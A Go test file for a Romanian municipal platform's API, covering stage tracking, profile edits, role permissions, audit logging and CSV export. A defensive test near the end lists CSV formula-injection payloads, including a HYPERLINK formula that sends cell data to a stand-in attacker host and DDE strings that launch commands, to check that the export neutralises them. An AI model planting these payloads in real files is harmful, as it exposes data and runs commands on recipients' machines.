package httpapi_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/voci-platform/voci/internal/voci"
)

// step is one request of a scenario, made by one of the scenario's callers, with what must
// come back: a status, and either a problem's code and param or pieces of the body.
type step struct {
	name     string
	as       string // a caller of the scenario; "" for no session
	method   string
	url      string
	body     any
	status   int
	code     string
	param    string
	contains []string
	lacks    []string
}

// signedIn returns a client per demo sign-in, keyed by the part before the @, plus "" for a
// client without a session.
func signedIn(t *testing.T, ts *testServer, emails ...string) map[string]*client {
	t.Helper()
	clients := map[string]*client{"": ts.client()}
	for _, e := range emails {
		cl := ts.client()
		if a := cl.login(t, e+"@demo.voci.ro", testPassword); a.status != 200 {
			t.Fatalf("login %s: %d %s", e, a.status, a.body)
		}
		clients[e] = cl
	}
	return clients
}

// runSteps runs the steps in order: later steps see what earlier ones changed.
func runSteps(t *testing.T, clients map[string]*client, steps []step) {
	t.Helper()
	for _, s := range steps {
		cl, ok := clients[s.as]
		if !ok {
			t.Fatalf("%s: no caller %q", s.name, s.as)
		}
		a := cl.do(t, s.method, s.url, s.body)
		if a.status != s.status {
			t.Errorf("%s: %s %s answered %d, want %d: %s", s.name, s.method, s.url, a.status, s.status, a.body)
			continue
		}
		if s.code != "" {
			p := a.problem(t)
			if p["code"] != s.code || (s.param != "" && p["param"] != s.param) || p["detail"] == "" {
				t.Errorf("%s: problem %v, want code %q param %q", s.name, p, s.code, s.param)
			}
		}
		for _, c := range s.contains {
			if !bytes.Contains(a.body, []byte(c)) {
				t.Errorf("%s: body lacks %s: %.600s", s.name, c, a.body)
			}
		}
		for _, c := range s.lacks {
			if bytes.Contains(a.body, []byte(c)) {
				t.Errorf("%s: body has %s: %.600s", s.name, c, a.body)
			}
		}
	}
}

func today() string    { return voci.FormatDate(voci.Today(time.Now())) }
func tomorrow() string { return voci.FormatDate(voci.Today(time.Now()).AddDate(0, 0, 1)) }

func stageBody(stage, date, note string) map[string]string {
	b := map[string]string{"stage": stage, "date": date}
	if note != "" {
		b["note"] = note
	}
	return b
}

// Colonești in Olt (126228) is not a pilot: it is enrolled, moved on, paused and resumed here.
func TestMunicipalityStageScenarios(t *testing.T) {
	ts := newTestServer(t)
	clients := signedIn(t, ts, "admin", "national", "coordinator.bacau", "facilitator.bacau")
	const olt = "/api/v1/municipalities/126228"
	runSteps(t, clients, []step{
		{name: "pilots start with a stage", method: "GET", url: "/api/v1/municipalities/20297", status: 200,
			contains: []string{`"enrolled":true`, `"stage":"memorandum_signed"`, `"stageSince":"` + today() + `"`}},
		{name: "others have none", method: "GET", url: olt, status: 200, contains: []string{`"enrolled":false`, `"stage":null`, `"stageSince":null`}},
		{name: "the public listing carries the stage", method: "GET", url: "/api/v1/municipalities?q=corbasca", status: 200, contains: []string{`"stage":"memorandum_signed"`}},

		{name: "a stage before enrolment", as: "admin", method: "POST", url: olt + "/stage", body: stageBody("situation_analysis", today(), ""), status: 409, code: "conflict"},
		{name: "enrol paused", as: "admin", method: "POST", url: olt + "/enrolment", body: stageBody("paused", today(), ""), status: 400, code: "invalid_parameter", param: "stage"},
		{name: "enrol", as: "admin", method: "POST", url: olt + "/enrolment", body: stageBody("interested", today(), "Primarul a scris comitetului național."), status: 201,
			contains: []string{`"municipality":{"siruta":126228`, `"enrolled":true`, `"stage":"interested"`, `"note":"Primarul a scris comitetului național."`, `"recordedBy":{"id":"`, `"email":"admin@demo.voci.ro"`}},
		{name: "enrol twice", as: "national", method: "POST", url: olt + "/enrolment", body: stageBody("interested", today(), ""), status: 409, code: "conflict"},

		{name: "unknown stage", as: "national", method: "POST", url: olt + "/stage", body: stageBody("approved", today(), ""), status: 400, code: "invalid_parameter", param: "stage"},
		{name: "skipping steps without a reason", as: "national", method: "POST", url: olt + "/stage", body: stageBody("implementation", today(), ""), status: 422, code: "stage_out_of_order", param: "note"},
		{name: "not a date", as: "national", method: "POST", url: olt + "/stage", body: stageBody("memorandum_signed", "06.10.2025", ""), status: 400, code: "invalid_parameter", param: "date"},
		{name: "no such day", as: "national", method: "POST", url: olt + "/stage", body: stageBody("memorandum_signed", "2025-02-30", ""), status: 400, code: "invalid_parameter", param: "date"},
		{name: "in the future", as: "national", method: "POST", url: olt + "/stage", body: stageBody("memorandum_signed", tomorrow(), ""), status: 400, code: "invalid_parameter", param: "date"},
		{name: "before the current stage", as: "national", method: "POST", url: olt + "/stage", body: stageBody("memorandum_signed", "2024-01-01", ""), status: 400, code: "invalid_parameter", param: "date"},
		{name: "no date", as: "national", method: "POST", url: olt + "/stage", body: map[string]string{"stage": "memorandum_signed"}, status: 400, code: "invalid_parameter", param: "date"},
		{name: "overlong note", as: "national", method: "POST", url: olt + "/stage", body: stageBody("memorandum_signed", today(), strings.Repeat("ș", 1001)), status: 400, code: "invalid_parameter", param: "note"},
		{name: "control characters", as: "national", method: "POST", url: olt + "/stage", body: stageBody("memorandum_signed", today(), "ok\u001b[2J"), status: 400, code: "invalid_parameter", param: "note"},
		{name: "mass assignment", as: "national", method: "POST", url: olt + "/stage", body: `{"stage":"memorandum_signed","date":"` + today() + `","enrolled":false}`, status: 400, code: "invalid_body", param: "enrolled"},
		{name: "unknown municipality", as: "admin", method: "POST", url: "/api/v1/municipalities/999999/stage", body: stageBody("memorandum_signed", today(), ""), status: 404, code: "not_found"},
		{name: "malformed siruta", as: "admin", method: "POST", url: "/api/v1/municipalities/x1/stage", body: stageBody("memorandum_signed", today(), ""), status: 400, code: "invalid_parameter", param: "siruta"},

		{name: "one step on", as: "national", method: "POST", url: olt + "/stage", body: stageBody("memorandum_signed", today(), "Memorandum semnat.\nȘedința din ianuarie."), status: 201,
			contains: []string{`"stage":"memorandum_signed"`, `"email":"national@demo.voci.ro"`}},
		{name: "un-enrolling is a pause", as: "admin", method: "POST", url: olt + "/stage", body: stageBody("paused", today(), ""), status: 201, contains: []string{`"enrolled":false`, `"stage":"paused"`}},
		{name: "the public sees the pause", method: "GET", url: olt, status: 200, contains: []string{`"enrolled":false`, `"stage":"paused"`}},
		{name: "paused is not enrolled", method: "GET", url: "/api/v1/municipalities?enrolled=true", status: 200, contains: []string{`"total":5`}},
		{name: "the history, newest first", as: "admin", method: "GET", url: olt + "/stage-history", status: 200,
			contains: []string{`"siruta":126228`, `"enrolled":false`, `"stage":"paused"`, `"nextStages":["interested","memorandum_signed",`, `"items":[{"id":"`, `"stage":"paused"`, `"note":"Memorandum semnat.\nȘedința din ianuarie."`}},
		{name: "resume", as: "national", method: "POST", url: olt + "/stage", body: stageBody("situation_analysis", today(), ""), status: 201, contains: []string{`"enrolled":true`}},

		{name: "a coordinator reads their history", as: "coordinator.bacau", method: "GET", url: "/api/v1/municipalities/20297/stage-history", status: 200,
			contains: []string{`"stage":"memorandum_signed"`, `"recordedBy":null`, `"nextStages":["situation_analysis","paused"]`}},
		{name: "but not another's", as: "coordinator.bacau", method: "GET", url: olt + "/stage-history", status: 404, code: "not_found"},
		{name: "and records no stage", as: "coordinator.bacau", method: "POST", url: "/api/v1/municipalities/20297/stage", body: stageBody("situation_analysis", today(), ""), status: 403, code: "forbidden"},
		{name: "nor another municipality's", as: "coordinator.bacau", method: "POST", url: "/api/v1/municipalities/40198/stage", body: stageBody("situation_analysis", today(), ""), status: 403, code: "forbidden"},
		{name: "nor enrols one", as: "coordinator.bacau", method: "POST", url: "/api/v1/municipalities/126228/enrolment", body: stageBody("interested", today(), ""), status: 403, code: "forbidden"},
		{name: "a facilitator reads no history", as: "facilitator.bacau", method: "GET", url: "/api/v1/municipalities/20297/stage-history", status: 404, code: "not_found"},
		{name: "nobody without a session", method: "GET", url: olt + "/stage-history", status: 401, code: "unauthorized"},

		{name: "every change is audited", as: "admin", method: "GET", url: "/api/v1/audit?municipality=126228", status: 200,
			contains: []string{`"total":4`, `"action":"municipality.enrol"`, `"action":"municipality.stage"`, `"municipalityName":"Colonești"`, `"actorRole":"national_committee"`, `"objectType":"municipality"`, `"objectId":"126228"`, `"detail":"Colonești: stage paused from ` + today() + ` (was memorandum_signed)"`}},
	})
	history, err := ts.store.ListStageHistory(t.Context(), 126228)
	if err != nil || len(history) != 4 {
		t.Fatalf("stored history %d entries, %v; want 4 (refused requests must write nothing)", len(history), err)
	}
}

func TestMunicipalityProfileScenarios(t *testing.T) {
	ts := newTestServer(t)
	clients := signedIn(t, ts, "admin", "national", "coordinator.bacau", "facilitator.bacau", "coordinator.brasov")
	const bacau = "/api/v1/municipalities/20297/profile"
	lead := map[string]string{"name": "Elena Ionescu", "phone": "+40 234 555 010", "email": "Protectia.Copilului@Primariabacau.ro"}
	runSteps(t, clients, []step{
		{name: "defaults", as: "coordinator.bacau", method: "GET", url: bacau, status: 200,
			contains: []string{`"siruta":20297`, `"ageBands":["under_10","10_12","13_15","16_18"]`, `"childPopulation":{"10_12":null,"13_15":null,"16_18":null,"under_10":null}`, `"safeguardingLead":null`, `"feedbackDeadlineDays":84`, `"updatedAt":null`}},
		{name: "the coordinator edits", as: "coordinator.bacau", method: "PATCH", url: bacau,
			body: map[string]any{"childPopulation": map[string]int{"under_10": 14250, "10_12": 4980}, "safeguardingLead": lead, "feedbackDeadlineDays": 45}, status: 200,
			contains: []string{`"under_10":14250`, `"10_12":4980`, `"13_15":null`, `"email":"protectia.copilului@primariabacau.ro"`, `"phone":"+40 234 555 010"`, `"feedbackDeadlineDays":45`, `"updatedAt":"`}},
		{name: "a partial edit keeps the rest", as: "admin", method: "PATCH", url: bacau, body: `{"childPopulation":{"10_12":null,"16_18":3900}}`, status: 200,
			contains: []string{`"under_10":14250`, `"10_12":null`, `"16_18":3900`, `"name":"Elena Ionescu"`, `"feedbackDeadlineDays":45`}},
		{name: "national members read", as: "national", method: "GET", url: bacau, status: 200, contains: []string{`"16_18":3900`}},
		{name: "national members do not edit", as: "national", method: "PATCH", url: bacau, body: `{"feedbackDeadlineDays":30}`, status: 404, code: "not_found"},
		{name: "another municipality's coordinator", as: "coordinator.brasov", method: "GET", url: bacau, status: 404, code: "not_found"},
		{name: "another municipality's coordinator edits", as: "coordinator.brasov", method: "PATCH", url: bacau, body: `{"feedbackDeadlineDays":30}`, status: 404, code: "not_found"},
		{name: "a facilitator", as: "facilitator.bacau", method: "GET", url: bacau, status: 404, code: "not_found"},
		{name: "unknown municipality", as: "admin", method: "GET", url: "/api/v1/municipalities/999999/profile", status: 404, code: "not_found"},
		{name: "unknown municipality edited", as: "admin", method: "PATCH", url: "/api/v1/municipalities/999999/profile", body: `{"feedbackDeadlineDays":30}`, status: 404, code: "not_found"},

		{name: "mass assignment: enrolled", as: "coordinator.bacau", method: "PATCH", url: bacau, body: `{"enrolled":false}`, status: 400, code: "invalid_body", param: "enrolled"},
		{name: "mass assignment: siruta", as: "coordinator.bacau", method: "PATCH", url: bacau, body: `{"feedbackDeadlineDays":30,"siruta":40198}`, status: 400, code: "invalid_body", param: "siruta"},
		{name: "mass assignment: name", as: "coordinator.bacau", method: "PATCH", url: bacau, body: `{"name":"Bacăul Mare"}`, status: 400, code: "invalid_body", param: "name"},
		{name: "mass assignment: stage", as: "coordinator.bacau", method: "PATCH", url: bacau, body: `{"stage":"recognised"}`, status: 400, code: "invalid_body", param: "stage"},
		{name: "mass assignment inside the contact", as: "coordinator.bacau", method: "PATCH", url: bacau, body: `{"safeguardingLead":{"name":"A","email":"a@b.ro","role":"platform_admin"}}`, status: 400, code: "invalid_body", param: "safeguardingLead.role"},
		{name: "nothing to change", as: "coordinator.bacau", method: "PATCH", url: bacau, body: `{}`, status: 400, code: "invalid_parameter"},
		{name: "negative population", as: "coordinator.bacau", method: "PATCH", url: bacau, body: `{"childPopulation":{"under_10":-1}}`, status: 400, code: "invalid_parameter", param: "childPopulation.under_10"},
		{name: "absurd population", as: "coordinator.bacau", method: "PATCH", url: bacau, body: `{"childPopulation":{"13_15":1000001}}`, status: 400, code: "invalid_parameter", param: "childPopulation.13_15"},
		{name: "a fraction of a child", as: "coordinator.bacau", method: "PATCH", url: bacau, body: `{"childPopulation":{"13_15":10.5}}`, status: 400, code: "invalid_body"},
		{name: "unknown age band", as: "coordinator.bacau", method: "PATCH", url: bacau, body: `{"childPopulation":{"0_18":100}}`, status: 400, code: "invalid_parameter", param: "childPopulation.0_18"},
		{name: "deadline too short", as: "coordinator.bacau", method: "PATCH", url: bacau, body: `{"feedbackDeadlineDays":6}`, status: 400, code: "invalid_parameter", param: "feedbackDeadlineDays"},
		{name: "deadline too long", as: "coordinator.bacau", method: "PATCH", url: bacau, body: `{"feedbackDeadlineDays":181}`, status: 400, code: "invalid_parameter", param: "feedbackDeadlineDays"},
		{name: "contact as text", as: "coordinator.bacau", method: "PATCH", url: bacau, body: `{"safeguardingLead":"Elena, 0234 555 010"}`, status: 400, code: "invalid_body", param: "safeguardingLead"},
		{name: "contact without a way to reach", as: "coordinator.bacau", method: "PATCH", url: bacau, body: `{"safeguardingLead":{"name":"Elena"}}`, status: 400, code: "invalid_parameter", param: "safeguardingLead.phone"},
		{name: "contact with a bad email", as: "coordinator.bacau", method: "PATCH", url: bacau, body: `{"safeguardingLead":{"name":"Elena","email":"elena@@x"}}`, status: 400, code: "invalid_parameter", param: "safeguardingLead.email"},
		{name: "contact with a bad phone", as: "coordinator.bacau", method: "PATCH", url: bacau, body: `{"safeguardingLead":{"name":"Elena","phone":"0234-CALL-ME"}}`, status: 400, code: "invalid_parameter", param: "safeguardingLead.phone"},
		{name: "contact name with control characters", as: "coordinator.bacau", method: "PATCH", url: bacau, body: `{"safeguardingLead":{"name":"Elena\u0000","phone":"0234555010"}}`, status: 400, code: "invalid_parameter", param: "safeguardingLead.name"},
		{name: "refused edits changed nothing", as: "coordinator.bacau", method: "GET", url: bacau, status: 200, contains: []string{`"under_10":14250`, `"feedbackDeadlineDays":45`, `"name":"Elena Ionescu"`}},

		{name: "removing the contact", as: "coordinator.bacau", method: "PATCH", url: bacau, body: `{"safeguardingLead":null}`, status: 200, contains: []string{`"safeguardingLead":null`, `"under_10":14250`}},
		{name: "edits are audited without the contact's details", as: "admin", method: "GET", url: "/api/v1/audit?action=municipality.profile_update", status: 200,
			contains: []string{`"total":3`, `"detail":"Changed childPopulation, safeguardingLead, feedbackDeadlineDays"`, `"detail":"Changed safeguardingLead"`, `"actorEmail":"coordinator.bacau@demo.voci.ro"`, `"actorRole":"coordinator"`},
			lacks:    []string{"234 555 010", "Elena", "primariabacau"}},
	})
}

// auditPage decodes GET /api/v1/audit.
type auditPage struct {
	Items []struct {
		ID               string `json:"id"`
		Municipality     *int   `json:"municipality"`
		MunicipalityName string `json:"municipalityName"`
		Action           string `json:"action"`
		ActorEmail       string `json:"actorEmail"`
		RequestID        string `json:"requestId"`
	} `json:"items"`
	Total    int `json:"total"`
	Page     int `json:"page"`
	PageSize int `json:"pageSize"`
}

func getAudit(t *testing.T, cl *client, query string) auditPage {
	t.Helper()
	a := cl.do(t, "GET", "/api/v1/audit"+query, nil)
	if a.status != 200 {
		t.Fatalf("audit%s: %d %s", query, a.status, a.body)
	}
	if a.header.Get("Cache-Control") != "no-store" {
		t.Errorf("audit%s may be cached: %q", query, a.header.Get("Cache-Control"))
	}
	var p auditPage
	if err := json.Unmarshal(a.body, &p); err != nil {
		t.Fatal(err)
	}
	return p
}

// makeAuditTrail has the coordinators of Bacău and Brașov and the admin change things.
func makeAuditTrail(t *testing.T, clients map[string]*client) {
	t.Helper()
	runSteps(t, clients, []step{
		{name: "Bacău", as: "coordinator.bacau", method: "PATCH", url: "/api/v1/municipalities/20297/profile", body: `{"feedbackDeadlineDays":30}`, status: 200},
		{name: "Bacău again", as: "coordinator.bacau", method: "PATCH", url: "/api/v1/municipalities/20297/profile", body: `{"feedbackDeadlineDays":31}`, status: 200},
		{name: "Brașov", as: "coordinator.brasov", method: "PATCH", url: "/api/v1/municipalities/40198/profile", body: `{"feedbackDeadlineDays":90}`, status: 200},
		{name: "Brașov's stage", as: "admin", method: "POST", url: "/api/v1/municipalities/40198/stage", body: stageBody("situation_analysis", today(), ""), status: 201},
	})
}

func TestAuditLog(t *testing.T) {
	ts := newTestServer(t)
	clients := signedIn(t, ts, "admin", "national", "coordinator.bacau", "coordinator.brasov", "facilitator.bacau", "council.bacau")
	makeAuditTrail(t, clients)

	all := getAudit(t, clients["admin"], "")
	// Six sign-ins (platform-wide, no municipality) and four changes.
	if all.Total != 10 || len(all.Items) != 10 || all.Page != 1 || all.PageSize != 50 {
		t.Fatalf("admin sees %+v", all)
	}
	if all.Items[0].Action != "municipality.stage" || *all.Items[0].Municipality != 40198 || all.Items[0].MunicipalityName != "Brașov" || all.Items[0].RequestID == "" {
		t.Fatalf("newest entry %+v", all.Items[0])
	}
	if national := getAudit(t, clients["national"], ""); national.Total != 10 {
		t.Fatalf("national sees %d", national.Total)
	}
	if p := getAudit(t, clients["admin"], "?pageSize=3&page=4"); len(p.Items) != 1 || p.Total != 10 || p.Page != 4 {
		t.Fatalf("last page %+v", p)
	}

	// A coordinator sees their municipality's entries only.
	own := getAudit(t, clients["coordinator.bacau"], "")
	if own.Total != 2 {
		t.Fatalf("coordinator of Bacău sees %+v", own)
	}
	for _, e := range own.Items {
		if e.Municipality == nil || *e.Municipality != 20297 {
			t.Fatalf("coordinator of Bacău sees %+v", e)
		}
	}
	if p := getAudit(t, clients["coordinator.bacau"], "?municipality=20297&action=municipality.profile_update"); p.Total != 2 {
		t.Fatalf("own municipality asked for: %+v", p)
	}

	for query, want := range map[string]int{
		"?municipality=40198":                                       2,
		"?action=municipality.profile_update":                       3,
		"?action=session.sign_in":                                   6,
		"?actor=Coordinator.Brasov@demo.voci.ro":                    2, // a sign-in and a change
		"?actor=nobody@demo.voci.ro":                                0,
		"?from=" + today() + "&to=" + today():                       10,
		"?to=" + today():                                            10,
		"?from=" + tomorrow():                                       0,
		"?from=2020-01-01T00:00:00Z&to=2021-01-01T00:00:00%2B02:00": 0,
		"?municipality=20297&actor=coordinator.bacau@demo.voci.ro":  2,
	} {
		if p := getAudit(t, clients["admin"], query); p.Total != want {
			t.Errorf("%s: total %d, want %d", query, p.Total, want)
		}
	}

	runSteps(t, clients, []step{
		{name: "another municipality", as: "coordinator.bacau", method: "GET", url: "/api/v1/audit?municipality=40198", status: 404, code: "not_found"},
		{name: "another municipality as CSV", as: "coordinator.bacau", method: "GET", url: "/api/v1/audit.csv?municipality=40198", status: 404, code: "not_found"},
		{name: "an unknown municipality", as: "admin", method: "GET", url: "/api/v1/audit?municipality=999999", status: 404, code: "not_found"},
		{name: "a facilitator", as: "facilitator.bacau", method: "GET", url: "/api/v1/audit", status: 403, code: "forbidden"},
		{name: "a council member's export", as: "council.bacau", method: "GET", url: "/api/v1/audit.csv", status: 403, code: "forbidden"},
		{name: "nobody", method: "GET", url: "/api/v1/audit", status: 401, code: "unauthorized"},

		{name: "municipality not a number", as: "admin", method: "GET", url: "/api/v1/audit?municipality=Bacau", status: 400, code: "invalid_parameter", param: "municipality"},
		{name: "municipality zero", as: "admin", method: "GET", url: "/api/v1/audit?municipality=0", status: 400, code: "invalid_parameter", param: "municipality"},
		{name: "malformed action", as: "admin", method: "GET", url: "/api/v1/audit?action=DROP%20TABLE", status: 400, code: "invalid_parameter", param: "action"},
		{name: "malformed actor", as: "admin", method: "GET", url: "/api/v1/audit?actor=a@b@c", status: 400, code: "invalid_parameter", param: "actor"},
		{name: "malformed from", as: "admin", method: "GET", url: "/api/v1/audit?from=yesterday", status: 400, code: "invalid_parameter", param: "from"},
		{name: "malformed to", as: "admin", method: "GET", url: "/api/v1/audit?to=2025-02-30", status: 400, code: "invalid_parameter", param: "to"},
		{name: "to before from", as: "admin", method: "GET", url: "/api/v1/audit?from=2025-10-06&to=2025-10-01", status: 400, code: "invalid_parameter", param: "to"},
		{name: "page zero", as: "admin", method: "GET", url: "/api/v1/audit?page=0", status: 400, code: "invalid_parameter", param: "page"},
		{name: "page too big", as: "admin", method: "GET", url: "/api/v1/audit?pageSize=101", status: 400, code: "invalid_parameter", param: "pageSize"},
		{name: "malformed filter on the export", as: "admin", method: "GET", url: "/api/v1/audit.csv?from=06.10.2025", status: 400, code: "invalid_parameter", param: "from"},
	})
}

func readAuditCSV(t *testing.T, a answer) [][]string {
	t.Helper()
	if a.status != 200 {
		t.Fatalf("export: %d %s", a.status, a.body)
	}
	if ct := a.header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Fatalf("content type %q", ct)
	}
	if cd := a.header.Get("Content-Disposition"); !strings.HasPrefix(cd, `attachment; filename="voci-audit-`) {
		t.Fatalf("disposition %q", cd)
	}
	body, ok := bytes.CutPrefix(a.body, []byte("\ufeff"))
	if !ok {
		t.Fatalf("no byte order mark: %.40q", a.body)
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, body)
	}
	want := "id,at,actorEmail,actorRole,municipality,municipalityName,action,actionWords,objectType,objectTypeWords,objectId,requestId,detail"
	if len(rows) == 0 || strings.Join(rows[0], ",") != want {
		t.Fatalf("header %v", rows)
	}
	return rows[1:]
}

func TestAuditCSVExport(t *testing.T) {
	ts := newTestServer(t)
	clients := signedIn(t, ts, "admin", "coordinator.bacau", "coordinator.brasov")
	makeAuditTrail(t, clients)

	rows := readAuditCSV(t, clients["admin"].do(t, "GET", "/api/v1/audit.csv", nil))
	if len(rows) != 7 { // three sign-ins and four changes
		t.Fatalf("%d rows", len(rows))
	}
	if r := rows[0]; r[4] != "40198" || r[5] != "Brașov" || r[6] != "municipality.stage" || r[3] != "platform_admin" {
		t.Fatalf("newest row %v", r)
	}
	if r := rows[len(rows)-1]; r[6] != "session.sign_in" || r[4] != "" {
		t.Fatalf("oldest row %v", r)
	}
	own := readAuditCSV(t, clients["coordinator.bacau"].do(t, "GET", "/api/v1/audit.csv", nil))
	if len(own) != 2 || own[0][4] != "20297" || own[1][4] != "20297" {
		t.Fatalf("coordinator's export %v", own)
	}
	filtered := readAuditCSV(t, clients["admin"].do(t, "GET", "/api/v1/audit.csv?action=municipality.profile_update&municipality=40198", nil))
	if len(filtered) != 1 || filtered[0][10] != "40198" {
		t.Fatalf("filtered export %v", filtered)
	}
	none := readAuditCSV(t, clients["admin"].do(t, "GET", "/api/v1/audit.csv?actor=nobody@demo.voci.ro", nil))
	if len(none) != 0 {
		t.Fatalf("export for an unknown actor %v", none)
	}
}

// The export writes each action and kind of object in words in the caller's language (the
// words of the audit page), beside the codes that programs read.
func TestAuditCSVInWords(t *testing.T) {
	ts := newTestServer(t)
	clients := signedIn(t, ts, "admin", "coordinator.bacau", "coordinator.brasov")
	makeAuditTrail(t, clients)
	raw, err := os.ReadFile(auditWordsFile)
	if err != nil {
		t.Fatal(err)
	}
	var words struct {
		Actions map[string]map[string]string `json:"actions"`
		Objects map[string]map[string]string `json:"objects"`
	}
	if err := json.Unmarshal(raw, &words); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ query, lang string }{{"", "ro"}, {"?lang=ro", "ro"}, {"?lang=en", "en"}, {"?lang=hu", "hu"}, {"?lang=de", "ro"}} {
		rows := readAuditCSV(t, clients["admin"].do(t, "GET", "/api/v1/audit.csv"+tc.query, nil))
		if len(rows) != 7 {
			t.Fatalf("%s: %d rows", tc.query, len(rows))
		}
		for _, r := range rows {
			action, objectType := r[6], r[8]
			if want := words.Actions[action][tc.lang]; want == "" || r[7] != want {
				t.Errorf("%s: action %q in words %q, want %q", tc.query, action, r[7], want)
			}
			if objectType == "" {
				if r[9] != "" {
					t.Errorf("%s: no object, yet words %q", tc.query, r[9])
				}
				continue
			}
			if want := words.Objects[objectType][tc.lang]; want == "" || r[9] != want {
				t.Errorf("%s: object type %q in words %q, want %q", tc.query, objectType, r[9], want)
			}
		}
		if r := rows[0]; r[6] != "municipality.stage" || r[8] != "municipality" {
			t.Fatalf("%s: newest row %v", tc.query, r)
		}
	}
	// Known words, so that a broken lookup cannot pass by comparing empty with empty.
	en := readAuditCSV(t, clients["admin"].do(t, "GET", "/api/v1/audit.csv?lang=en&action=session.sign_in", nil))
	if len(en) == 0 || en[0][7] != "Signed in" {
		t.Fatalf("English sign-in %v", en)
	}
	hu := readAuditCSV(t, clients["admin"].do(t, "GET", "/api/v1/audit.csv?lang=hu&action=session.sign_in", nil))
	if len(hu) == 0 || hu[0][7] != "Bejelentkezett" {
		t.Fatalf("Hungarian sign-in %v", hu)
	}
}

// Text in the trail comes from people; a spreadsheet opening the export must not run it.
func TestAuditCSVIsSafeFromFormulas(t *testing.T) {
	ts := newTestServer(t)
	clients := signedIn(t, ts, "admin")
	payloads := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`,
		`+cmd|' /C calc'!A0`,
		`-2+3`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
		"|calc",
		"%0A=1+1",
		"＝1+1",
		`plain text, with "quotes" and a comma`,
	}
	for i, p := range payloads {
		e := &voci.AuditEntry{
			ID: voci.RandomID(), At: time.Now().UTC().Add(-time.Duration(i+1) * time.Minute), ActorID: "x", ActorEmail: p,
			ActorRole: voci.RoleCoordinator, Municipality: 20297, Action: "test.injection", ObjectType: p, ObjectID: p,
			RequestID: p, Detail: p,
		}
		if err := ts.store.AppendAudit(t.Context(), e); err != nil {
			t.Fatal(err)
		}
	}
	a := clients["admin"].do(t, "GET", "/api/v1/audit.csv?action=test.injection", nil)
	rows := readAuditCSV(t, a)
	if len(rows) != len(payloads) {
		t.Fatalf("%d rows", len(rows))
	}
	// The writer ends lines with CRLF (RFC 4180) and so drops a lone carriage return inside a
	// cell; the cell that began with one still begins with the apostrophe.
	if !bytes.Contains(a.body, []byte("\"'=1+1\"")) {
		t.Errorf("the cell starting with CR is not neutralised:\n%q", a.body)
	}
	for i, r := range rows {
		p := payloads[i]
		want := "'" + p
		switch {
		case i == len(payloads)-1:
			want = p
		case strings.HasPrefix(p, "\r"):
			want = "'" + p[1:]
		}
		for _, col := range []int{2, 8, 9, 10, 11, 12} {
			if r[col] != want {
				t.Errorf("row %d column %d = %q, want %q", i, col, r[col], want)
			}
		}
		for col, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %d starts a formula: %q", i, col, cell)
			}
		}
	}
}

// An export longer than one store page is read page by page, each entry once, newest first.
func TestAuditCSVExportSpansPages(t *testing.T) {
	ts := newTestServer(t)
	clients := signedIn(t, ts, "national")
	const n = 2*voci.MaxPageSize + 37
	start := time.Now().UTC().Add(-time.Hour)
	for i := range n {
		e := &voci.AuditEntry{
			ID: voci.RandomID(), At: start.Add(time.Duration(i) * time.Second), ActorID: "x", ActorEmail: "x@demo.voci.ro",
			ActorRole: voci.RoleCoordinator, Municipality: 21971, Action: "test.bulk", ObjectType: "thing", ObjectID: strings.Repeat("7", i%5+1),
		}
		if err := ts.store.AppendAudit(t.Context(), e); err != nil {
			t.Fatal(err)
		}
	}
	rows := readAuditCSV(t, clients["national"].do(t, "GET", "/api/v1/audit.csv?action=test.bulk&municipality=21971", nil))
	if len(rows) != n {
		t.Fatalf("%d rows, want %d", len(rows), n)
	}
	seen := map[string]bool{}
	for i, r := range rows {
		if seen[r[0]] {
			t.Fatalf("row %d repeats %s", i, r[0])
		}
		seen[r[0]] = true
		if i > 0 && r[1] > rows[i-1][1] {
			t.Fatalf("row %d (%s) is newer than row %d (%s)", i, r[1], i-1, rows[i-1][1])
		}
		if r[5] != "Corbasca" {
			t.Fatalf("row %d municipality name %q", i, r[5])
		}
	}
}
